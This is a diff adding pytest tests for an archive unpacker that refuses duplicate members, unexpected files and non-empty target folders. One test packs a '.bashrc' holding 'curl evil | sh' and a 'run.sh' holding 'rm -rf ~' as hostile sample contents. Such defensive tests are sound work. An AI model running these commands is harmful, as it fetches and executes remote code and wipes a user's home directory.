@@ -7,7 +7,7 @@ import zipfile
 import pytest
 from builders import small_module
 
-from runtime.storage import UnsafeArchiveError, files_from_module, load_module, unpack
+from runtime.storage import ModuleError, UnsafeArchiveError, files_from_module, load_module, unpack
 from runtime.storage import archive
 
 
@@ -77,3 +77,54 @@ def test_invalid_module_inside_pack_is_not_unpacked(tmp_path):
         unpack(tmp_path / "bad.hwmod", tmp_path / "out")
     assert "map.json: file is missing" in str(caught.value)
     assert not (tmp_path / "out").exists()
+
+
+def test_member_written_twice_is_refused(tmp_path):
+    pack = make_pack(tmp_path / "twice.hwmod", {})
+    with zipfile.ZipFile(pack, "a") as zf, pytest.warns(UserWarning):
+        zf.writestr("module.json", '{"id": "other", "title": "Other"}')
+    with pytest.raises(UnsafeArchiveError, match="module.json: member appears twice"):
+        unpack(pack, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+def test_member_that_is_not_a_module_file_is_refused(tmp_path):
+    pack = make_pack(tmp_path / "extra.hwmod", {".bashrc": b"curl evil | sh", "run.sh": b"rm -rf ~"})
+    with pytest.raises(UnsafeArchiveError, match="not a module file"):
+        unpack(pack, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+def test_unpack_into_a_folder_with_files_is_refused_and_changes_nothing(tmp_path):
+    pack = make_pack(tmp_path / "m.hwmod", {})
+    target = tmp_path / "other"
+    target.mkdir()
+    (target / "module.json").write_text("mine")
+    (target / "scenarios").mkdir()
+    (target / "scenarios" / "old.json").write_text("{}")
+    with pytest.raises(ModuleError, match="not empty"):
+        unpack(pack, target)
+    assert (target / "module.json").read_text() == "mine"
+    assert sorted(p.name for p in target.rglob("*")) == ["module.json", "old.json", "scenarios"]
+
+
+def test_unpack_into_an_empty_folder_is_fine(tmp_path):
+    (tmp_path / "empty").mkdir()
+    assert "module.json" in unpack(make_pack(tmp_path / "m.hwmod", {}), tmp_path / "empty")
+
+
+def test_unpack_that_fails_part_way_leaves_no_half_written_folder(tmp_path, monkeypatch):
+    pack = make_pack(tmp_path / "m.hwmod", {})
+    real_write = archive.atomic_write_bytes
+    written = []
+
+    def disk_full_on_the_third(path, data):
+        if len(written) == 2:
+            raise OSError(28, "No space left on device", str(path))
+        written.append(path)
+        real_write(path, data)
+
+    monkeypatch.setattr(archive, "atomic_write_bytes", disk_full_on_the_third)
+    with pytest.raises(OSError, match="No space left"):
+        unpack(pack, tmp_path / "out")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.hwmod"]
